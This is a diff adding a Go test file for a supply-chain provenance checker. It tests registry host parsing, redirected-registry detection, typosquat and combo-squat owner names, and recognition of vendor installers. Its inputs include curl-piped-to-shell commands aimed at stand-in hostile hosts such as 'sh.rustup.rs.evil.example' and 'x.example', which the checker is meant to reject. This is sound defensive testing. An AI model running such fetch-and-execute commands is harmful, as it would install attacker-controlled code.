@@ -1,0 +1,75 @@
+package provenance
+
+import "testing"
+
+func TestHostOf(t *testing.T) {
+	for in, want := range map[string]string{
+		"https://Registry.NPMjs.org/":       "registry.npmjs.org",
+		`"git+https://github.com/o/r.git"`:  "github.com",
+		`https\://pypi.example.com/simple`:  "pypi.example.com",
+		"registry.npmjs.org":                "",
+		"not a url at all":                  "",
+		"http://127.0.0.1:4873/some/path/x": "127.0.0.1",
+	} {
+		if got := HostOf(in); got != want {
+			t.Errorf("HostOf(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestRedirected(t *testing.T) {
+	for in, want := range map[string]string{
+		"https://registry.npmjs.org/":       "",
+		"https://mirror.pypi.org/simple":    "", // under a well-known host
+		"https://jitpack.io":                "", // a shared package host
+		"http://evil.example/simple":        "", // plain http is another rule's
+		"https://npm.evil.example/registry": "npm.evil.example",
+	} {
+		got, ok := Redirected(in)
+		if got != want || ok != (want != "") {
+			t.Errorf("Redirected(%q) = %q, %v; want %q", in, got, ok, want)
+		}
+	}
+}
+
+func TestLookalike(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{"actions", ""},            // the name itself
+		{"actlons", "actions"},     // one letter away
+		{"acti0ns", "actions"},     // a digit read as a letter
+		{"hashicrop", "hashicorp"}, // two edits in a long name
+		{"dokcer", ""},             // two edits in a short one
+		{"hashicorpp", "hashicorp"},
+		{"abc", ""}, // too short to judge
+	} {
+		if got := Lookalike(c.in, KnownOwners); got != c.want {
+			t.Errorf("Lookalike(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+func TestComboOwner(t *testing.T) {
+	for in, want := range map[string]string{
+		"psf-black":     "psf",
+		"pre-commit-ci": "", // itself a known owner
+		"astral-sh-dev": "astral-sh",
+		"scientific":    "",
+	} {
+		if got := ComboOwner(in, HookOwners()); got != want {
+			t.Errorf("ComboOwner(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestVendorInstaller(t *testing.T) {
+	for in, want := range map[string]string{
+		"curl -sSf https://sh.rustup.rs | sh":                             "sh.rustup.rs",
+		"curl https://sh.rustup.rs.evil.example | sh":                     "",
+		"curl https://sh.rustup.rs | sh && curl https://x.example/a | sh": "",
+		"echo no url here": "",
+	} {
+		if got := VendorInstaller(in); got != want {
+			t.Errorf("VendorInstaller(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
